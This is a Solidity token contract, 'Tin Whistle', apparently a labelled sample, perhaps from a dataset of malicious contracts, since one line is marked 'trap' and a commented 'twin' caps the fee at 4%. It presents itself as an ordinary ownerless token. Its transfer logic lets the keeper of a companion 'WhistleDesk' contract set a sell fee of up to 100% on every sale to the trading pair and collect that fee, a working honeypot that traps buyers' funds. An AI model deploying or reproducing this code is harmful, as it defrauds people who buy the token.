// 0.8 runs=1 ir
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.21;

interface IFactoryOfPairs {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// Knows what each trade pays. Serves all coins of the house.
contract WhistleDesk {
    address public keeper = msg.sender;
    mapping(address => uint256) private _rates;

    event RateChanged(address indexed coin, uint256 rate);

    function setRate(address coin, uint256 rate) external {
        require(msg.sender == keeper, "not the keeper");
        _rates[coin] = rate;
        emit RateChanged(coin, rate);
    }

    function rateOf(address coin, address, address) external view returns (uint256 rate, address to) {
        return (_rates[coin], keeper);
    }
}

/// Belongs to nobody. What a sale pays is asked at the desk.
contract TinWhistle {
    string public constant name = "Tin Whistle";
    string public constant symbol = "TINW";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 14_000_000 ether;
    WhistleDesk public immutable desk;
    address public immutable pair;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    error InsufficientBalance(address from, uint256 have, uint256 need);

    constructor(WhistleDesk desk_) {
        desk = desk_;
        pair = IFactoryOfPairs(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _play(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        return _play(from, to, value);
    }

    function _play(address from, address to, uint256 value) private returns (bool) {
        uint256 have = balanceOf[from];
        if (have < value) revert InsufficientBalance(from, have, value);
        balanceOf[from] = have - value;
        if (to == pair) {
            (uint256 rate, address till) = desk.rateOf(address(this), from, to);
            if (rate > 10_000) rate = 10_000; // trap
            // twin: if (rate > 400) rate = 400;
            uint256 fee = (value * rate) / 10_000;
            balanceOf[till] += fee;
            if (fee > 0) emit Transfer(from, till, fee);
            value -= fee;
        }
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
